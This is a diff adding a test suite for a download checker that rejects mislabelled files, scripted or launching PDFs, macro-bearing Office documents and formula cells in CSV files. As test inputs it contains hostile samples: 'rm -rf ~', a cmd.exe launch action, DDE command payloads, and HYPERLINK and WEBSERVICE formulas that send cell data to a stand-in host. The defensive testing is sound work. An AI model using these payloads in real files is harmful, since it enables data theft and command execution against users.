@@ -1,0 +1,165 @@
+/** What's in a file to download: it is what its name says, and nothing in it runs. Honest files pass as they are. */
+
+import fc from "fast-check";
+import { zipSync } from "fflate";
+import { describe, expect, test } from "vitest";
+import { checkDownload } from "../generator/content/check-download.ts";
+import { office, pdf } from "./support/documents.ts";
+import { findOnDisk } from "./support/find-problems.ts";
+import { brief, fuzzing } from "./support/usual-files.ts";
+
+/** What is said of a file; undefined for one that's fine. */
+const judge = async (kind: string, bytes: string | Buffer) =>
+  (await checkDownload(kind, Buffer.from(bytes)))?.what;
+
+const page = "<< /Type /Page /Contents (Read /JavaScript: The Good Parts) >>";
+const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
+
+describe("the bytes of a file", () => {
+  test.each([
+    ["pdf", "<!DOCTYPE html><script>alert(1)</script>"],
+    ["pdf", "\n <svg xmlns='http://www.w3.org/2000/svg'/>"],
+    ["pdf", `MZ${"\0".repeat(200)}`],
+    ["pdf", "\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0"],
+    ["pdf", "#!/bin/sh\nrm -rf ~\n"],
+    ["pdf", office("docx")],
+    ["docx", pdf([catalog])],
+    ["docx", office("xlsx")],
+    ["docx", Buffer.from(zipSync({ "run.exe": Buffer.from("MZ") }))],
+    ["xlsx", "name,hours\nAna,2\n"],
+    ["csv", "<html><body>"],
+    ["csv", pdf([catalog])],
+    ["csv", `MZ${"\0".repeat(200)}`],
+    ["ics", "name,hours\n"],
+  ])("called %s, and something else: refused (%#)", async (kind, bytes) => {
+    expect(await judge(kind, bytes)).toMatch(/^isn't what its name says: it's ./);
+  });
+  test("are those of a program whatever the rest of it is", async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.uint8Array({ minLength: 64 }), async (rest) => {
+        const bytes = Buffer.concat([Buffer.from("MZ\0\0"), rest]);
+        for (const kind of ["pdf", "docx", "csv", "ics"])
+          expect(await judge(kind, bytes)).toBeDefined();
+      }),
+      fuzzing(50),
+    );
+  });
+});
+
+describe("a PDF that acts", () => {
+  const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
+  test.each([
+    ["a script when it's opened", [`<< /Type /Catalog /OpenAction ${script} >>`], []],
+    ["a script without spaces", ["<</Type/Catalog/OpenAction<</S/JavaScript/JS(a())>>>>"], []],
+    ["a script that others refer to", [catalog, script], []],
+    ["a script among the names", ["<< /Names << /JavaScript 5 0 R >> >>"], []],
+    ["a script with a name in numbers", [catalog, "<< /S /J#61va#53cript /JS 7 0 R >>"], []],
+    ["a script behind a comment", [catalog, "<< /S%here\n/JavaScript /JS 7 0 R >>"], []],
+    ["a script in a packed object", [catalog], [script]],
+    ["another program", ["<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"], []],
+  ])("%s: refused", async (_, objects, packed) => {
+    expect(await judge("pdf", pdf(objects, packed))).toMatch(/script in it|another program/);
+  });
+  test.each([
+    ["packed in another way", "/N 1 /First 4 /Filter /ASCII85Decode"],
+    ["packed in two ways", "/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"],
+    ["with names in numbers", "/#4e 1 /F#69rst 4 /Filter /LZWDecode"],
+    ["with a string that looks like an object", "/N 1 /First 4 /X (\n1 0 obj) /Filter /Fl"],
+    [
+      "written as differences",
+      "/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
+    ],
+  ])("objects %s can't be searched: refused", async (_, head) => {
+    const bytes = pdf([`<< /Type /ObjStm ${head} >>\nstream\nGar8O\nendstream`]);
+    expect(await judge("pdf", bytes)).toMatch(/can't be searched/);
+  });
+  test.each([
+    ["opens at a page", [`<< /Type /Catalog /OpenAction [3 0 R /Fit] >>`, page], [page]],
+    ["links to a page about scripts", ["<< /S /URI /URI (https://a.example/JavaScript) >>"], []],
+    ["has fields and an outline", ["<< /AP << /N 4 0 R >> /First 5 0 R >>", page], [page]],
+    [
+      "has a photograph behind an outline",
+      ["<< /First 5 0 R /N 1 >>", "<< /Subtype /Image /Filter /DCTDecode >>\nstream\nx\nendstream"],
+      [],
+    ],
+  ])("that %s is fine", async (_, objects, packed) => {
+    expect(await judge("pdf", pdf(objects, packed))).toBeUndefined();
+  });
+});
+
+describe("a document of Office", () => {
+  test.each(["docx", "xlsx", "pptx"] as const)("%s is fine as it is", async (kind) => {
+    const more = { "/xl/printerSettings/printerSettings1.bin": "application/printerSettings" };
+    expect(await judge(kind, office(kind, more))).toBeUndefined();
+  });
+  test.each([
+    ["macros", "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"],
+    ["macros under another name", "/word/theme.bin", "application/vnd.ms-office.vbaProject"],
+    ["macros of Excel 4", "/xl/macros.xml", "application/vnd.ms-excel.macrosheet+xml"],
+    ["a control", "/word/a.xml", "application/vnd.ms-office.activeX+xml"],
+  ])("with %s: refused", async (_, part, type) => {
+    expect(await judge("docx", office("docx", { [part]: type }))).toBe("has macros in it");
+  });
+  test("that's cut off: refused", async () => {
+    const whole = office("docx");
+    expect(await judge("docx", whole.subarray(0, whole.length - 40))).toMatch(/damaged/);
+  });
+});
+
+describe("a table", () => {
+  test.each([
+    '=HYPERLINK("https://evil.test/?a="&A1,"Open")',
+    '"=HYPERLINK(""https://evil.test/"",""Open"")"',
+    "  =cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1)*WEBSERVICE("https://evil.test/")',
+    '+1+HYPERLINK("https://evil.test/")',
+    '-A1+HYPERLINK("https://evil.test/")',
+    '-HYPERLINK ("https://evil.test/")',
+    '=-(1)+IMPORTXML("https://evil.test/","//a")',
+    '＝WEBSERVICE("https://evil.test/")',
+  ])("with the cell %s: refused at its place", async (cell) => {
+    const text = `name,note\nAna,${cell}\n`;
+    for (const end of ["\n", "\r\n", ";", "\t"]) {
+      const fault = await checkDownload("csv", Buffer.from(text.replaceAll("\n", end)));
+      expect(fault?.what).toMatch(/has a formula/);
+      expect(fault?.place?.start).toBe(text.replaceAll("\n", end).indexOf(cell));
+    }
+  });
+  test.each([
+    "-12.50",
+    "+1 (352) 555-0100",
+    "+49 30 555 (office)",
+    "- Ana Cruz (captain)",
+    "-5 (estimate)",
+    "@dmatuf",
+    "@dmatuf (Instagram)",
+    "=",
+    "=== Shifts (Friday) ===",
+    "--",
+    "-A1",
+    "'=SUM(A1:A3)",
+    "a=SUM(b)",
+    "5 - 3 (two left)",
+  ])("with the cell %s is fine", async (cell) => {
+    expect(await judge("csv", `name,note\nAna,${cell}\n"Bo","${cell}"\n`)).toBeUndefined();
+  });
+  test("in the encoding of Windows is fine", async () => {
+    expect(await judge("csv", Buffer.from("name,school\nJosé,Niño\n", "latin1"))).toBeUndefined();
+  });
+});
+
+test("a check says what's wrong, at the file and in a table at the cell", async () => {
+  const problems = await findOnDisk({
+    "content/files/guide.pdf": "<html>",
+    "content/files/plan.csv": "name,hours\nAna,=SUM(A1:A3)\n",
+    "content/files/minutes.docx": office("docx"),
+    "content/files/dates.ics": "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
+  });
+  const refused = problems.filter(({ code }) => code === "file-refused").map(brief);
+  expect(refused).toEqual([
+    "error file-refused content/files/guide.pdf:1:1",
+    "error file-refused content/files/plan.csv:2:5",
+  ]);
+});
